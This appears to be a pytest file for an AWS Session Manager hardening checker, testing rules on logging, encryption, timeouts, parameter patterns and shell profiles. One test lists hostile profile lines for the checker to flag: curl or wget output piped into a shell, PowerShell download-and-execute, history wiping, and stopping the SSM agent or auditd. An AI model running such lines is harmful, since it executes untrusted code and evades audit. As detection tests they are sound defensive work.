"""What the fixtures cannot show of the rules over session documents: the gap, the related places, the messages."""

from typing import Any

import pytest

from ssm_hardening.core.values import Inventory, Items, Reference, Template, Why
from ssm_hardening.verdicts.findings import Failed, NotApplicable, Passed, Related, Severity, Undecided
from tests.rules.builders import (
    AT,
    BUCKET,
    GROUP,
    account,
    bucket,
    command_document,
    custom_document,
    gap,
    known,
    log_group,
    port_document,
    preferences_document,
    sign,
    unknown,
)
from tests.rules.judging import verdict_on

BARE: dict[str, Any] = {"session_documents": [], "log_buckets": [], "log_groups": [], "keys": []}


@pytest.mark.parametrize(
    ("rule", "field"),
    [
        ("PREF-02", "content_error"),
        ("PREF-02", "unknown_keys"),
        ("PREF-04", "cloudwatch_streaming_enabled"),
        ("PREF-05", "s3_bucket"),
        ("PREF-05", "s3_encryption_enabled"),
        ("PREF-06", "cloudwatch_encryption_enabled"),
        ("PREF-07", "idle_session_timeout"),
        ("PREF-08", "max_session_duration"),
        ("PREF-10", "shared_with"),
        ("PREF-12", "shell_profile_windows"),
        ("PREF-13", "kms_key"),
        ("PREF-13", "run_as_enabled"),
        ("PREF-15", "prevent_destroy"),
        ("RUNAS-01", "run_as_enabled"),
        ("RUNAS-02", "run_as_default_user"),
    ],
)
def test_an_undecided_verdict_carries_the_very_gap(rule: str, field: str) -> None:
    missing = unknown(f"var.{field} has no default")
    verdict = verdict_on(rule, preferences_document(**{field: missing}))
    assert isinstance(verdict, Undecided)
    assert verdict.gap is missing


def test_without_a_document_use_elsewhere_is_out_of_scope() -> None:
    verdict = verdict_on("PREF-01", account(**BARE | {"usage_signs": [sign("a policy")]}))
    assert isinstance(verdict, Undecided)
    assert verdict.gap.why is Why.OUT_OF_SCOPE
    assert Related(AT, "this suggests that Session Manager is used: a policy") in verdict.related


def test_a_custom_document_is_named_as_one_without_effect() -> None:
    verdict = verdict_on("PREF-01", account(**BARE | {"session_documents": [custom_document()]}))
    assert isinstance(verdict, Undecided)
    assert [related.note for related in verdict.related] == [
        "aws_ssm_document.custom applies only to sessions that name it"
    ]


def test_an_unread_part_may_hold_the_document() -> None:
    missing = gap()
    verdict = verdict_on("PREF-01", account(**BARE | {"session_documents": Inventory((), missing)}))
    assert isinstance(verdict, Undecided)
    assert verdict.gap is missing


def test_a_live_region_without_document_fails_and_shows_custom_ones() -> None:
    live = account(
        **BARE | {"source": "live", "session_documents": [custom_document()], "instances": [], "sessions": []}
    )
    verdict = verdict_on("PREF-01", live)
    assert isinstance(verdict, Failed)
    assert len(verdict.related) == 1


def test_nothing_of_session_manager_is_no_gap() -> None:
    assert isinstance(verdict_on("PREF-01", account(**BARE)), NotApplicable)


def test_one_known_destination_outweighs_an_unknown_one() -> None:
    assert isinstance(verdict_on("PREF-03", preferences_document(s3_bucket=unknown())), Passed)


def test_a_name_of_nothing_but_holes_may_be_empty() -> None:
    holes = known(Template((unknown("var.a"), unknown("var.b"))))
    document = preferences_document(s3_bucket=holes, cloudwatch_log_group=None)
    verdict = verdict_on("PREF-03", document)
    assert isinstance(verdict, Undecided)
    assert verdict.gap.detail == "var.a"


def test_streaming_off_fails_whatever_the_unknown_destination_turns_out_to_be() -> None:
    document = preferences_document(s3_bucket=unknown(), cloudwatch_streaming_enabled=False)
    assert isinstance(verdict_on("PREF-04", document), Failed)


@pytest.mark.parametrize(
    ("rule", "stores", "place"),
    [
        ("PREF-05", {"log_buckets": [bucket(encryption="aws:kms:dsse")]}, "DSSE"),
        ("PREF-06", {"log_groups": [log_group(kms_key=None)]}, "no customer managed key"),
    ],
)
def test_a_switch_whose_store_refuses_says_so(rule: str, stores: dict[str, Any], place: str) -> None:
    verdict = verdict_on(rule, preferences_document(), within=account(**stores))
    assert isinstance(verdict, Passed)
    assert [place in related.note for related in verdict.related] == [True]


@pytest.mark.parametrize(("standard", "kind"), [("baseline", Passed), ("strict", Failed)])
def test_the_default_idle_timeout_is_judged_as_a_value(standard: str, kind: type) -> None:
    document = preferences_document(idle_session_timeout=known(20, defaulted=True))
    verdict = verdict_on("PREF-07", document, standard=standard)
    assert isinstance(verdict, kind)
    assert "the AWS default" in verdict.message


def test_zero_minutes_are_no_timeout() -> None:
    assert isinstance(verdict_on("PREF-07", preferences_document(idle_session_timeout=0)), Failed)
    assert isinstance(verdict_on("PREF-08", preferences_document(max_session_duration=0)), Failed)


def test_all_problems_of_a_document_are_told_and_the_worst_decides() -> None:
    document = preferences_document(
        s3_encryption_enabled=known(True, raw="true"), idle_session_timeout=90, unknown_keys=["inputs.logs"]
    )
    verdict = verdict_on("PREF-02", document)
    assert isinstance(verdict, Failed)
    assert verdict.severity is None
    assert verdict.message.count(";") == 2
    assert len(verdict.related) == 2


def test_a_text_switch_alone_is_low() -> None:
    verdict = verdict_on("PREF-02", preferences_document(s3_encryption_enabled=known(True, raw="true")))
    assert isinstance(verdict, Failed)
    assert verdict.severity is Severity.LOW


def test_sharing_with_an_account_that_cannot_be_told_is_undecided() -> None:
    missing = unknown()
    document = preferences_document(shared_with=known(Items((), missing)))
    verdict = verdict_on("PREF-10", document)
    assert isinstance(verdict, Undecided)
    assert verdict.gap is missing


@pytest.mark.parametrize(
    ("pattern", "kind"),
    [(".*", Failed), ("^.+$", Failed), ("^[a-z]+$", Passed), (None, Failed), ("(.*)", Failed), (".*?", Failed),
     ("^.{1,100}$", Failed), (r"\S+", Failed), (r"[\s\S]{0,}", Failed), (r"^(.|\n)*$", Failed), ("[^ ]*", Failed),
     ("^[ -~]+$", Failed), (r"^/var/log/.*\.log$", Failed), ("a|.*", Failed), (r"^[\w;]+$", Failed), ("[]|]+", Failed),
     (r"^[\w./@:,=-]{1,64}$", Passed), (r"^\d{1,3}(\.\d{1,3}){3}$", Passed), ("^[a-z]+.log$", Passed),
     (r"^\.*$", Passed), (r"^\[.\]$", Passed), ("^(?:a|b)+$", Passed), ("[[a-z]&&[^b]]+", Undecided),
     ("[z-a]+", Undecided), (r"\p{Print}+", Undecided), ("[" * 20_000, Undecided), ("[a--b]+", Undecided),
     (r"^[\w\[\]]+$", Passed)],
)  # fmt: skip
def test_a_pattern_bounds_a_command_unless_it_takes_anything(pattern: str | None, kind: type) -> None:
    document = command_document(
        parameters={"unit": {"type": "String", "allowedPattern": pattern}},
        properties={"linux": {"commands": "systemctl status {{unit}}"}},
    )
    assert isinstance(verdict_on("PREF-11", document), kind)


@pytest.mark.parametrize(
    ("pattern", "kind"),
    [(r"^[0-9]+$", Failed), (r"^\d+$", Failed), ("^(5432|5433)$", Passed), (r"^db\.example\.internal$", Passed)],
)
def test_only_a_spelled_out_pattern_pins_a_port_or_host(pattern: str, kind: type) -> None:
    document = port_document(
        parameters={"host": {"type": "String", "allowedPattern": pattern}},
        properties={"portNumber": "5432", "host": "{{ host }}"},
    )
    assert isinstance(verdict_on("PREF-11", document), kind)


@pytest.mark.parametrize("elevated", [True, "true", "{{ elevated }}"])
def test_elevation_by_any_spelling_fails(elevated: bool | str) -> None:  # noqa: FBT001
    document = command_document(properties={"linux": {"commands": "id", "runAsElevated": elevated}})
    assert isinstance(verdict_on("PREF-11", document), Failed)


@pytest.mark.parametrize(
    "properties",
    [
        {"Linux": {"Commands": "cat {{ file }}"}},
        {"linux": {"commands": "id", "RunAsElevated": True}},
        {"linux": {"runAsElevated": False, "commands": "id", "RUNASELEVATED": True}},
    ],
)
def test_the_agent_finds_the_properties_of_a_command_in_any_case(properties: dict[str, Any]) -> None:
    document = command_document(parameters={"file": {"type": "String"}}, properties=properties)
    assert isinstance(verdict_on("PREF-11", document), Failed)


@pytest.mark.parametrize("properties", [{"PortNumber": "{{ port }}"}, {"portNumber": "22", "Host": "{{ port }}"}])
def test_the_agent_finds_the_properties_of_a_tunnel_in_any_case(properties: dict[str, Any]) -> None:
    document = port_document(parameters={"port": {"type": "String"}}, properties=properties)
    assert isinstance(verdict_on("PREF-11", document), Failed)


def test_a_hole_in_a_command_may_hold_a_parameter() -> None:
    command = known(Template(("tail ", unknown("var.file"))))
    verdict = verdict_on("PREF-11", command_document(properties={"linux": {"commands": command}}))
    assert isinstance(verdict, Undecided)
    assert verdict.gap.detail == "var.file"


@pytest.mark.parametrize(
    "line",
    [
        "unset HISTFILE",
        "export HISTFILE=/dev/null",
        "HISTSIZE=0",
        "set +o history",
        "history -c",
        "sudo systemctl stop amazon-ssm-agent",
        "sudo snap stop amazon-ssm-agent",
        "service amazon-ssm-agent stop",
        "pkill -f ssm-session-worker",
        "systemctl disable --now auditd",
        "rm -rf /var/lib/amazon/ssm/x",
        "curl -fsSL https://example.com/x | bash",
        "wget -qO- https://example.com/x | sudo -E sh",
        "bash <(curl -s https://example.com/x)",
        'eval "$(curl -s https://example.com/x)"',
        ". <(curl -s https://example.com/x)",
        "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
        "export AWS_SECRET_ACCESS_KEY=abcdefgh",
        "mysql --password=hunter22",
        "-----BEGIN RSA PRIVATE KEY-----",
        "iex (New-Object Net.WebClient).DownloadString('https://example.com/x')",
        "iwr https://example.com/x | iex",
        "Stop-Transcript",
        "Stop-Service -Name AmazonSSMAgent",
        "Set-PSReadLineOption -HistorySaveStyle SaveNothing",
    ],
)
def test_a_careless_profile_fails_and_names_the_line_without_repeating_it(line: str) -> None:
    verdict = verdict_on("PREF-12", preferences_document(shell_profile_linux=f"cd ~\n{line}\n"))
    assert isinstance(verdict, Failed)
    assert "line 2 of the Linux profile" in verdict.message
    assert line not in verdict.message


@pytest.mark.parametrize(
    "profile",
    [
        "cd ~ && exec bash -l",
        "echo 'This session is recorded. No secrets, please.'",
        "export PS1='\\u@\\h:\\w\\$ '; export HISTTIMEFORMAT='%F %T '; HISTSIZE=10000",
        "export DB_PASSWORD=$(aws secretsmanager get-secret-value --secret-id example)",
        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
        "systemctl status amazon-ssm-agent",
        "Set-Location C:\\",
        "$password = Read-Host -AsSecureString",
        "export AWS_WEB_IDENTITY_TOKEN_FILE=/var/run/secrets/token",
        "export DB_SECRET=arn:aws:secretsmanager:eu-west-1:111122223333:secret:db",
        "export ANSIBLE_ASK_VAULT_TOKEN=prompt",
    ],
)
def test_a_careful_profile_passes(profile: str) -> None:
    assert isinstance(verdict_on("PREF-12", preferences_document(shell_profile_linux=profile)), Passed)


def test_a_hostile_profile_is_read_in_time() -> None:
    verdict = verdict_on("PREF-12", preferences_document(shell_profile_linux="sh . source curl rm " * 3_000))
    assert isinstance(verdict, Passed)


def test_a_profile_with_a_hole_fails_on_what_is_written() -> None:
    profile = known(Template(("unset HISTFILE; ", unknown())))
    assert isinstance(verdict_on("PREF-12", preferences_document(shell_profile_linux=profile)), Failed)


def test_a_stored_parameter_names_who_decides() -> None:
    verdict = verdict_on("PREF-13", preferences_document(kms_key="{{ssm:/example/key}}"))
    assert isinstance(verdict, Undecided)
    assert "/example/key" in verdict.gap.detail
    assert "ssm:PutParameter" in verdict.gap.detail


def test_a_parameter_nobody_declared_is_nobodys_choice() -> None:
    assert isinstance(verdict_on("PREF-13", preferences_document(s3_bucket="{{ bucket }}")), Passed)


def test_a_parameter_in_part_of_a_name_is_a_choice() -> None:
    name = known(Template((Reference("local.prefix", ""), "-{{ bucket }}")))
    document = preferences_document(s3_bucket=name, parameters={"bucket": {"type": "String"}})
    assert isinstance(verdict_on("PREF-13", document), Failed)


def test_a_switch_without_destination_fails() -> None:
    verdict = verdict_on("PREF-14", preferences_document(cloudwatch_log_group=None))
    assert isinstance(verdict, Failed)
    assert "cloudWatchStreamingEnabled is on" in verdict.message


def test_a_store_made_for_sessions_that_nobody_uses_is_shown_beside_the_name() -> None:
    document = preferences_document(s3_bucket="example-elsewhere", cloudwatch_log_group="/elsewhere")
    within = account(session_documents=[document], log_buckets=[bucket(used_by=[])], log_groups=[log_group(used_by=[])])
    verdict = verdict_on("PREF-14", document, within=within)
    assert isinstance(verdict, Failed)
    notes = " ".join(related.note for related in verdict.related)
    assert BUCKET in notes
    assert GROUP in notes


@pytest.mark.parametrize(
    "store",
    [
        bucket(used_by=["aws_ssm_document.other"]),
        bucket(used_by=[], address="aws_s3_bucket.assets", name="example-assets"),
        bucket(used_by=[], exists=False),
    ],
)
def test_a_store_that_is_used_or_for_something_else_is_no_mistake(store: Any) -> None:
    document = preferences_document(s3_bucket="example-elsewhere")
    within = account(session_documents=[document], log_buckets=[store])
    assert isinstance(verdict_on("PREF-14", document, within=within), Passed)


def test_no_default_user_leaves_it_to_the_operators_tag() -> None:
    verdict = verdict_on("RUNAS-02", preferences_document(run_as_default_user=None))
    assert isinstance(verdict, Undecided)
    assert "SSMSessionRunAs" in verdict.message


def test_guarding_is_for_code() -> None:
    document = preferences_document(prevent_destroy=None)
    live = account(source="live", session_documents=[document])
    assert isinstance(verdict_on("PREF-15", document, within=live), NotApplicable)
    assert isinstance(verdict_on("PREF-15", document), Failed)
